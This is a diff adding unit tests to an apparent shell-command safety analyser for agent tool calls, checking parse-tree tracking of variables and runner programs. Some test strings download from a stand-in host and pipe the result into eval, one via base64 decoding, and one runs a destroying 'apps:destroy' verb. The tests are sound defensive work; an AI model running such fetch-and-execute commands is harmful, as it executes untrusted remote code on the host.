@@ -121,3 +121,46 @@ describe('tool effects', () => {
     expect(effects('mcp__jobs__run_job', { job: 'nightly' }).map((e) => e.type)).toContain('unknown');
   });
 });
+
+describe('substitutions reached through a variable follow the parse tree', () => {
+  const fetched = (command: string): string[] =>
+    bash(command).flatMap((e) => (e.type === 'exec' && e.program !== '' && (e.origin === 'network' || e.origin === 'decoded') ? [e.program] : []));
+
+  it('a variable holds the output of its own assignment only', () => {
+    expect(fetched('S=$(curl -s https://x.example/a); eval "$S"')).toEqual(['eval']);
+    expect(fetched('S=$(curl -s https://x.example/a | base64 -d); eval "$S"')).toContain('eval');
+    // Text position read T's curl as S's value (both on one line): the tree says S holds date's output.
+    expect(fetched('S=$(date) T=$(curl -s https://x.example/a); echo "$T"; eval "$S"')).toEqual([]);
+    expect(fetched('T=$(curl -s https://x.example/a) S=$(date); eval "$S"')).toEqual([]);
+    // A later assignment overwrites the earlier one.
+    expect(fetched('S=$(curl -s https://x.example/a); S=$(date); eval "$S"')).toEqual([]);
+  });
+
+  it('states on each substitution command the variable it assigns', () => {
+    const facts = normalizeCall('bash', { command: 'S=$(date) T=$(curl -s https://x.example/a)' }, ctx).facts;
+    if (facts.kind !== 'bash') throw new Error('bash facts expected');
+    expect(facts.commands.filter((c) => c.via === 'command_substitution').map((c) => [c.name, c.assigns])).toEqual([['date', 'S'], ['curl', 'T']]);
+  });
+});
+
+describe('runners and interpreters from the knowledge table', () => {
+  const programs = (command: string): string[] => bash(command).flatMap((e) => (e.type === 'exec' ? [e.program] : []));
+
+  it('parses the command line a runner is given, wherever the table says it stands', () => {
+    expect(programs("watchexec -e py -- 'pytest -x'")).toContain('pytest');
+    expect(programs("nodemon --exec 'ts-node src/index.ts'")).toContain('ts-node');
+    expect(programs('op run --env-file .env -- npm start')).toContain('npm');
+    expect(programs("pdsh -w web[1-3] 'uptime'")).toContain('uptime');
+    expect(programs("salt '*' cmd.run 'df -h'")).toContain('df');
+    expect(programs("entr -s 'make test'")).toContain('make');
+    expect(programs("octave --eval 'system(\"make\")'")).toContain('make');
+    expect(programs("erl -noshell -eval 'os:cmd(\"make\"), halt().'")).toContain('make');
+  });
+
+  it('a wrapper is no unknown program, and an unknown program given a destroying verb says so', () => {
+    const reasons = (command: string) => bash(command).flatMap((e) => (e.type === 'unknown' ? [e.reason] : []));
+    expect(reasons('tini -- node server.js')).toEqual([]);
+    expect(reasons('dokku apps:destroy api')).toEqual(['unknown_program_destroys:apps:destroy']);
+    expect(reasons('mytool cache clean')).toEqual([]);
+  });
+});
